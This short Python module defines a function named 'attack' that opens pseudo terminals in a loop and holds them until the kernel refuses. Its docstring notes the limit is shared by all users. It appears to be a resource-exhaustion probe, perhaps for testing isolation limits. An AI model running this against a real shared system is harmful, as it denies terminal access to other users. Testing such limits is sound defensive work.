"""Open pseudo terminals, which the kernel counts for all users together, and keep them."""

import os

kept = []


def attack(count):
    for number in range(count):
        try:
            kept.append(os.openpty())
        except OSError as error:
            return [number, str(error)]
    return [count, ""]
